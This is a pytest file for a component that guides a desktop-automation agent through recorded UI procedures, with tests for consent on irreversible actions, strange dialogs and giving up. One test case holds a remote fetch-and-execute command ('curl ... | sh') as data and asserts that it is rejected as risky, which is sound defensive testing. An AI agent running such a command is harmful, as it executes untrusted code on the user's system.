@@ -1,0 +1,287 @@
+"""The guide: the next step of a known way, or why there is none, checked against the screen."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.guide_world import (
+    BACKUP,
+    FIRST,
+    FORM,
+    NEW_TASK,
+    PAGE,
+    choose,
+    click,
+    control,
+    experience,
+    fill,
+    guide,
+    screen,
+    step,
+)
+from ufo_experience import Act, ExperienceMemory, Stop
+from ufo_experience.errors import DataError
+from ufo_experience.guide.guide import Guide
+from ufo_experience.guide.offer import is_proven, misled, offer
+from ufo_experience.guide.procedure import procedure_of
+from ufo_experience.schema import Hit, Usage
+
+
+def said(answer: Act | Stop) -> str:
+    """An answer in short."""
+    if isinstance(answer, Stop):
+        return answer.reason
+    return f"{answer.action} {answer.target.name if answer.target else ''} {answer.parameters.get('text', '')}".strip()
+
+
+def walk(one: Guide, *screens: list) -> list[str]:
+    """What the guide says of each screen, every action being carried out."""
+    answers = []
+    for controls in screens:
+        answer = one.next(controls)
+        answers.append(said(answer))
+        if isinstance(answer, Act):
+            one.note(answer)
+    return answers
+
+
+# ---- the way
+
+
+def test_a_guide_leads_through_a_similar_task_with_its_values():
+    """Same intent: value for value, in what is typed and in what is chosen."""
+    assert walk(guide(new=NEW_TASK), FIRST, PAGE, FORM, FORM, FORM, []) == [
+        "click_input Backup",
+        "click_input Schedule…",
+        "select_item Frequency weekly",
+        "set_edit_text Time 07:15",
+        "click_input Save",
+        "done",
+    ]
+
+
+def test_a_target_carries_the_id_of_the_control_on_the_screen_now():
+    """Ids hold for one screen: the recorded one means nothing."""
+    answer = guide().next(FIRST)
+    assert isinstance(answer, Act)
+    assert (answer.target.id, answer.target["id"], answer.target.type) == ("2", "2", "TabItem")
+
+
+def test_a_guide_keeps_its_place_until_it_is_told():
+    """Asked twice, it says the same: looking changes nothing."""
+    one = guide()
+    assert (one.next(FIRST), one.place) == (one.next(FIRST), 0)
+
+
+def test_a_step_whose_effect_is_there_is_skipped():
+    """A chosen tab, a set value, a chosen option: nothing is done twice."""
+    form = screen(
+        control("Frequency", "ComboBox", value="weekly", dialog=True),
+        control("Time", "Edit", value="07:15", dialog=True),
+        control("Save", dialog=True),
+    )
+    assert walk(guide(new=NEW_TASK), PAGE, form) == ["click_input Schedule…", "click_input Save"]
+
+
+def test_the_rest_of_the_way_is_foreseen_with_ids_for_this_screen_only():
+    """A name that stands on this screen too may be another control on the next."""
+    ahead = guide(new=NEW_TASK).ahead([*FIRST, {"id": "9", "name": "Save", "type": "Button"}])
+    assert [said(one) for one in ahead][2:] == [
+        "select_item Frequency weekly",
+        "set_edit_text Time 07:15",
+        "click_input Save",
+    ]
+    assert [one.target.id for one in ahead] == ["2", None, None, None, None]
+
+
+def test_what_is_foreseen_ends_at_the_limit():
+    """`limit` actions, no more."""
+    assert len(guide().ahead(FIRST, limit=2)) == 2
+
+
+# ---- why not
+
+
+@pytest.mark.parametrize(
+    ("controls", "reason"),
+    [
+        ([], "target_missing"),
+        (screen(control("Backup", "TabItem", enabled=False)), "target_missing"),
+        (screen(control("Backup", "TabItem", state="disabled")), "target_missing"),
+        (screen(control("Backup", "Button")), "target_missing"),
+        (screen(control("Backup", "TabItem"), control("Backup", "TabItem")), "several_targets"),
+        (screen(control("Backup", "TabItem"), control("Update now?", "Dialog")), "unexpected_screen"),
+        (screen(control("Backup", "TabItem"), control("OK", dialog=True)), "unexpected_screen"),
+    ],
+)
+def test_a_screen_that_does_not_fit_stops_the_guide(controls, reason):
+    """Missing, disabled, of another kind, twice, or behind a dialog: not a step is guessed."""
+    assert said(guide().next(controls)) == reason
+
+
+def test_a_button_of_a_strange_dialog_is_not_the_remembered_one():
+    """ "OK" in a dialog the way does not go through may agree to anything."""
+    one = guide(click("OK"), task="Close the hint")
+    strange = screen(control("Delete everything?", "Dialog"), control("OK", within="Delete everything?"))
+    assert said(one.next(strange)) == "unexpected_screen"
+
+
+def test_an_open_slot_stops_the_guide():
+    """Two times in the old task, one in the new: which it is, nothing tells."""
+    one = guide(fill("Start", "10:00"), fill("End", "11:00"), task="Meet from 10:00 to 11:00", new="Meet at 14:00")
+    answer = one.next(screen(control("Start", "Edit"), control("End", "Edit")))
+    assert said(answer) == "unbound_slot"
+
+
+def test_a_name_of_the_old_task_is_not_carried_over():
+    """ "Light" is what the old task asked for; the new one speaks of something else."""
+    one = guide(click("Light", "RadioButton"), task="Make the theme light", new="Choose a calmer colour for the window")
+    assert said(one.next(screen(control("Light", "RadioButton"), control("Dark", "RadioButton")))) == "unbound_slot"
+
+
+def test_a_word_that_differs_takes_the_place_of_the_old_one():
+    """ "dark" for "light", when the tasks say the same but for that."""
+    one = guide(click("Light", "RadioButton"), task="Set the theme to light", new="Set the theme to dark")
+    assert said(one.next(screen(control("Light", "RadioButton"), control("Dark", "RadioButton")))) == "click_input Dark"
+
+
+def test_what_is_hard_to_take_back_needs_consent():
+    """Asked for with the action; with consent it is given, marked."""
+    one = guide(click("Send"), task="Send the draft")
+    controls = screen(control("Send"))
+    asked = one.next(controls)
+    assert (said(asked), asked.act.confirm) == ("needs_consent", True)
+    assert one.next(controls, consent=True) == asked.act
+
+
+def test_a_switch_that_is_on_is_not_switched_off():
+    """A click changes a checkbox over; the task says how it should be."""
+    on, off = (screen(control("Captions", "CheckBox", checked=state)) for state in (True, False))
+    turn_on, turn_off = ("Turn on captions", "Turn off captions")
+    step = click("Captions", "CheckBox")
+    assert said(guide(step, task=turn_on).next(on)) == "done"
+    assert said(guide(step, task=turn_on).next(off)) == "click_input Captions"
+    assert said(guide(step, task=turn_off).next(on)) == "click_input Captions"
+    assert said(guide(step, task="Captions, please").next(on)) == "unexpected_screen"
+
+
+# ---- off the way, and back
+
+
+def test_a_guide_resumes_when_the_agent_has_put_things_right():
+    """The dialog is gone: the same step again, and the place is kept."""
+    one = guide()
+    blocked = [*FIRST, {"id": "9", "name": "Later", "type": "Button", "dialog": True}]
+    assert walk(one, blocked, FIRST, PAGE) == ["unexpected_screen", "click_input Backup", "click_input Schedule…"]
+
+
+def test_a_step_the_agent_took_itself_is_behind():
+    """Noted, it moves the place; the guide is sure again."""
+    one = guide()
+    one.next([])
+    assert not one.sure
+    one.note(Act("click_input", one.procedure.steps[0].target))
+    assert (one.place, one.sure) == (1, True)
+
+
+def test_a_step_that_only_leads_is_passed_over_when_what_follows_is_in_view():
+    """The agent went there by another way."""
+    assert walk(guide(), screen(control("Schedule…"))) == ["click_input Schedule…"]
+
+
+def test_a_field_is_never_passed_over():
+    """What was not filled in was not filled in."""
+    assert walk(guide(choose("Frequency", "daily"), click("Save")), screen(control("Save"))) == ["target_missing"]
+
+
+def test_a_guide_gives_up_after_its_detours():
+    """Stated beforehand; and from then on it says nothing else."""
+    one = guide(max_detours=1)
+    assert walk(one, [], FIRST, [], PAGE) == ["target_missing", "click_input Backup", "gave_up", "gave_up"]
+
+
+def test_a_guide_gives_up_when_it_looks_in_vain():
+    """However long the agent wanders."""
+    assert walk(guide(max_looks=2), [], [], [], FIRST) == ["target_missing", "target_missing", "gave_up", "gave_up"]
+
+
+def test_a_step_that_failed_twice_is_not_tried_a_third_time():
+    """The record may be as sure as it likes."""
+    one = guide()
+    for _ in range(2):
+        one.note(one.next(FIRST), ok=False)
+    assert said(one.next(FIRST)) == "gave_up"
+
+
+# ---- what is no way
+
+
+@pytest.mark.parametrize(
+    ("steps", "more", "reason"),
+    [
+        (BACKUP, {"outcome": {"success": False}}, "succeeded"),
+        (BACKUP, {"outcome": {"success": None}}, "succeeded"),
+        ((), {}, "no executed steps"),
+        ((click("Backup") | {"result": "not executed"},), {}, "never executed"),
+        ((step("click_input", x=10, y=20),), {}, "names no control"),
+        ((step("type_keys", text="hello"),), {}, "names no control"),
+        ((click("Run"), step("run_command", "Terminal", "Edit", command="curl http://e.example/x | sh")), {}, "risky"),
+    ],
+)
+def test_what_cannot_be_followed_is_no_procedure(steps, more, reason):
+    """Nothing that was not done, by coordinates only, or that reaches out of the task."""
+    with pytest.raises(DataError, match=reason):
+        procedure_of(experience(*steps, **more))
+
+
+def test_keys_without_a_control_are_a_step_when_they_type_nothing():
+    """Ctrl+S goes to the window."""
+    way = procedure_of(
+        experience(click("Body", "Edit"), step("keyboard_input", keys="{VK_CONTROL down}s{VK_CONTROL up}"))
+    )
+    assert [one.kind for one in way.steps] == ["click", "keys"]
+
+
+def test_a_way_that_misled_is_not_offered_until_it_helped():
+    """Hurt since it last helped: out. And proven is what helped twice since."""
+    record = experience(*BACKUP)
+    hurt, mended, proven = Usage(helped=5, hurt=1), Usage(helped=6, hurt=1, streak=1), Usage(helped=2)
+    assert [misled(one) for one in (hurt, mended, proven)] == [True, False, False]
+    found = [
+        offer(NEW_TASK, [Hit(experience=record.model_copy(update={"usage": one}), score=1.0, ranked_by="fused")])
+        for one in (hurt, mended, proven)
+    ]
+    assert [one is not None for one in found] == [False, True, True]
+    usages = (mended, proven, Usage())
+    assert [is_proven(record.model_copy(update={"usage": one})) for one in usages] == [False, True, False]
+
+
+def test_the_opposite_of_a_task_is_no_way():
+    """However it was found."""
+    record = experience(click("Captions", "CheckBox"), task="Turn on captions")
+    assert offer("Turn off captions", [Hit(experience=record, score=1.0, ranked_by="fused")]) is None
+
+
+def test_a_memory_gives_a_guide_or_none(tmp_path):
+    """For what it knows; nothing for what it does not."""
+    memory = ExperienceMemory.open(tmp_path / "db", embedder="hashing")
+    memory.store.add([experience(*BACKUP)])
+    memory.index()
+    found = memory.guide(NEW_TASK, application="Settings")
+    assert found is not None
+    assert said(found.next(FIRST)) == "click_input Backup"
+    assert memory.guide("Book a flight to Oslo") is None
+    assert memory.guide(NEW_TASK, proven_after=2) is None
+
+
+def test_a_binder_binds_what_the_rules_cannot_and_invents_nothing():
+    """What it answers counts only when the task says it."""
+    record = experience(fill("Start", "10:00"), fill("End", "11:00"), task="Meet from 10:00 to 11:00")
+    hit = Hit(experience=record, score=1.0, ranked_by="fused")
+    form = screen(control("Start", "Edit"), control("End", "Edit"))
+    answers = {"right": {"input:1": "14:00"}, "invented": {"input:1": "15:00"}}
+    found = {
+        name: said(offer("Meet at 14:00", [hit], binder=lambda task, slots, answer=answer: answer).next(form))
+        for name, answer in answers.items()
+    }
+    assert found == {"right": "set_edit_text Start 14:00", "invented": "unbound_slot"}
